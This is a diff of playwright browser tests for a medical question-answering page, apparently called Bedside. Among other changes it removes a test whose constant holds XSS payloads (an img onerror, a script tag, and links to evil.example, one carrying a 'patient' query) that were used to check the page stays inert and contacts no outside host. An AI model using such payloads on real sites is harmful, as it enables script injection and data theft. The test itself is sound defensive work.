@@ -1,43 +1,26 @@
-"""The page in a real browser: Debian's chromium, driven by playwright."""
-
-from collections.abc import Iterator
+"""Asking on the page, in a real browser: Debian's chromium, driven by playwright."""
 
 import pytest
-from playwright.sync_api import Browser, Locator, Page, expect
+from playwright.sync_api import Locator, Page, expect
 
+from bedside.records import Message
 from bedside.runtime.scripted import ScriptedBackend
-from bedside.text.prompts import NOTICE
+from bedside.text.prompts import NOTICE, SECTIONS
 
 from .conftest import PATIENCE_S, EndlessSpeaker, Serving
 
 REPLY = ("The right atrium is full.", "Right heart failure.")
-HOSTILE = (
-    "<img src=http://evil.example/x onerror=\"document.title='owned'\"> <script>document.title='owned'</script> "
-    "![x](http://evil.example/y?q=patient) [click](javascript:alert(1)) <b>bold</b>"
-)
 KEY = "a-key-of-the-ward"
-
-
-@pytest.fixture
-def page(browser: Browser) -> Iterator[Page]:
-    """A page that must ask nobody but 127.0.0.1 and must have no error of its own."""
-    context = browser.new_context(viewport={"width": 1000, "height": 700})
-    page = context.new_page()
-    page.set_default_timeout(PATIENCE_S * 1000)
-    expect.set_options(timeout=PATIENCE_S * 1000)
-    asked: list[str] = []
-    errors: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
-    page.on("pageerror", lambda error: errors.append(str(error)))
-    yield page
-    context.close()
-    assert [url for url in asked if not url.startswith(("http://127.0.0.1:", "data:"))] == []
-    assert errors == []
 
 
 def ask(page: Page, text: str) -> None:
     page.get_by_label("Your question").fill(text)
     page.keyboard.press("Enter")
+
+
+def typed(message: Message) -> str:
+    """What a person typed: a structured answer is asked for in one more paragraph."""
+    return message.content.removesuffix(f"\n\n{SECTIONS}")
 
 
 def article(page: Page, number: int = 0) -> Locator:
@@ -65,10 +48,12 @@ def test_it_streams_an_answer_with_its_reasoning_folded_away(serving: Serving, p
 
 
 def test_the_disclaimer_stays_in_sight_of_a_long_answer(serving: Serving, page: Page) -> None:
-    with serving(ScriptedBackend([("", "line\n" * 200)])) as url:
+    with serving(ScriptedBackend([("", "line\n\n" * 200)])) as url:
         page.goto(url)
         ask(page, "Say much.")
-        expect(page.get_by_role("button", name="Copy answer")).to_be_in_viewport()
+        expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
+        expect(page.get_by_text(NOTICE)).to_be_in_viewport()
+        page.get_by_role("button", name="Copy answer").scroll_into_view_if_needed()
         expect(page.get_by_text(NOTICE)).to_be_in_viewport()
 
 
@@ -79,15 +64,6 @@ def test_while_it_thinks_it_says_so_and_for_how_long(serving: Serving, page: Pag
         expect(page.get_by_text("Reasoning: thinking… 1 s")).to_be_visible()
         page.keyboard.press("Escape")
         expect(page.get_by_text("Follow-up questions will not refer to this one.")).to_be_visible()
-
-
-def test_hostile_text_stays_text_and_calls_nobody(serving: Serving, page: Page) -> None:
-    with serving(ScriptedBackend([(HOSTILE, HOSTILE)])) as url:
-        page.goto(url)
-        ask(page, HOSTILE)
-        expect(article(page).locator(".answer")).to_have_text(HOSTILE)
-        expect(page).to_have_title("Bedside")
-        assert page.locator("article img, article script, article a, article b").count() == 0
 
 
 def test_even_injected_markup_could_reach_nobody(serving: Serving, page: Page) -> None:
@@ -124,12 +100,24 @@ def test_a_follow_up_brings_the_conversation_and_a_new_one_does_not(serving: Ser
         expect(page.get_by_role("article")).to_have_count(0)
         ask(page, "Is it serious?")
         expect(page.get_by_text("Yes.")).to_be_visible()
-    said = [[message.content for message in asked[1:]] for asked in speaker.asked]
+    said = [[typed(message) for message in asked[1:]] for asked in speaker.asked]
     assert said == [
         ["What raises the JVP?"],
         ["What raises the JVP?", REPLY[1], "Why?"],
         ["Is it serious?"],
     ]
+
+
+def test_the_box_grows_with_its_text_and_is_low_again_under_a_conversation(serving: Serving, page: Page) -> None:
+    height = "document.getElementById('question').offsetHeight"
+    with serving(ScriptedBackend([REPLY])) as url:
+        page.goto(url)
+        before = page.evaluate(height)
+        page.get_by_label("Your question").fill("line\n" * 6)
+        assert page.evaluate(height) > before
+        page.keyboard.press("Enter")
+        expect(article(page)).to_have_attribute("aria-busy", "false")
+        assert page.evaluate(height) < before
 
 
 def test_shift_enter_starts_a_line_and_an_empty_question_is_not_sent(serving: Serving, page: Page) -> None:
@@ -142,7 +130,7 @@ def test_shift_enter_starts_a_line_and_an_empty_question_is_not_sent(serving: Se
         page.keyboard.type("two")
         page.keyboard.press("Enter")
         expect(page.get_by_text(REPLY[1])).to_be_visible()
-    assert [asked[-1].content for asked in speaker.asked] == ["one\ntwo"]
+    assert [typed(asked[-1]) for asked in speaker.asked] == ["one\ntwo"]
 
 
 def test_when_the_server_is_gone_it_says_so_and_keeps_the_question(serving: Serving, page: Page) -> None:
@@ -169,7 +157,7 @@ def test_when_the_server_goes_in_the_middle_the_part_is_marked(
 @pytest.mark.parametrize(
     ("status", "code", "headers", "line"),
     [
-        (503, "server_busy", {"Retry-After": "7"}, "The model is busy with other questions. Try again in 7 seconds."),
+        (429, "server_busy", {"Retry-After": "7"}, "The model is busy with other questions. Try again in 7 seconds."),
         (400, "context_length_exceeded", {}, "The conversation is too long for this model."),
         (500, "internal_error", {}, "The server refused: the reason."),
     ],
@@ -180,7 +168,7 @@ def test_a_refusal_is_told_in_a_line(
     error = {"error": {"message": "the reason", "type": "x", "param": None, "code": code}}
     with serving(ScriptedBackend([])) as url:
         page.goto(url)
-        page.route("**/chat/completions", lambda route: route.fulfill(status=status, json=error, headers=headers))
+        page.route("**/v1/answer", lambda route: route.fulfill(status=status, json=error, headers=headers))
         ask(page, "What raises the JVP?")
         expect(page.get_by_role("alert")).to_contain_text(line)
         expect(page.get_by_label("Your question")).to_have_value("What raises the JVP?")
@@ -197,19 +185,6 @@ def test_the_key_is_asked_for_and_a_wrong_one_is_asked_for_again(serving: Servin
         expect(page.get_by_role("dialog")).to_be_hidden()
         ask(page, "What raises the JVP?")
         expect(page.get_by_text(REPLY[1])).to_be_visible()
-
-
-def test_a_copied_answer_carries_model_and_disclaimer(serving: Serving, page: Page) -> None:
-    with serving(ScriptedBackend([REPLY])) as url:
-        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
-        page.goto(url)
-        ask(page, "What raises the JVP?")
-        page.get_by_role("button", name="Copy answer").click()
-        expect(page.get_by_role("button", name="Copied")).to_be_visible()
-        copied = page.evaluate("navigator.clipboard.readText()")
-    assert copied.startswith(REPLY[1] + "\n")
-    assert "scripted" in copied
-    assert NOTICE in copied
 
 
 def test_nothing_overflows_a_narrow_telephone(serving: Serving, page: Page) -> None:
